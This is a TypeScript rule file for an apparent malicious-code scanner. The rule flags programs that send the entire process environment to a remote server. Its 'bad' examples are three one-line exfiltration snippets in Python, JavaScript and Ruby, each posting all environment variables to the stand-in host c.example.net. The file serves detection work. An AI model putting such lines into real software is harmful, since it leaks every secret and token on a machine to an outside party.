import type { FileCheck } from '../../check.ts';

export const check: FileCheck = {
  id: 'data-handling-env-exfiltration',
  title: 'The whole environment is sent away',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The environment holds every key and token the machine was given. A program that needs one variable reads that one;
    sending all of them takes what was never meant for it.`,
  fix: 'Remove it, and renew every secret of the machines that ran it. Send the few values that are needed, by name.',
  blindSpots: 'Variables that are collected one by one are not counted together.',
  wants: { acts: ['environment-sent'] },
  examples: {
    bad: [
      { 'setup.py': '«requests.post("https://c.example.net", json=dict(os.environ))»\n' },
      {
        'index.js':
          "const body = JSON.stringify(process.env);\n«fetch('https://c.example.net', { method: 'POST', body })»;\n",
      },
      { 'hook.rb': '«Net::HTTP.post(URI("https://c.example.net"), ENV.to_h.to_json)»\n' },
    ],
    good: [
      { 'call.py': 'requests.post(url, headers={"Authorization": os.environ["API_KEY"]})\n' },
      { 'run.js': "spawn('node', ['server.js'], { env: { ...process.env, PORT: '80' } });\n" },
      { 'start.py': 'subprocess.run(["make"], env=os.environ.copy())\n' },
    ],
  },

  *find({ acts, span }) {
    for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
  },
};
